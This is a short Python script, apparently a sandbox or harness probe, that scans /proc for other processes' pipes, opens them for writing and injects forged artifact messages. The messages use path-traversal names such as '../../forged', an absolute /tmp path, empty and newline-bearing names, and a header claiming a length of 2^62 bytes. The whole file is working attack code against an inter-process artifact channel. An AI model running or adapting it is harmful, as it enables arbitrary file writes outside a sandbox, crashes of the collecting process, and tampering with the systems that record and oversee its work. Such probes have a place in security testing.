"""Finds the pipe on which the artifacts leave and speaks its language, with names that lead elsewhere."""

import os
import pathlib
import struct

header = struct.Struct(">cHQ")
for fd in pathlib.Path("/proc").glob("[0-9]*/fd/*"):
    own = fd.parts[2] == str(os.getpid())
    if own or fd.name in ("0", "1", "2") or "pipe" not in os.readlink(fd):
        continue
    try:
        pipe = os.open(fd, os.O_WRONLY)
    except PermissionError:
        print("the pipe is closed to me", flush=True)
        continue
    for name in (b"../../forged", b"/tmp/forged", b"ok/../../forged", b"", b"forged\n.txt"):
        os.write(pipe, header.pack(b"F", len(name), 6) + name + b"forged")
    os.write(pipe, header.pack(b"F", 4, 1 << 62) + b"huge" + b"x")
    print("forged", flush=True)
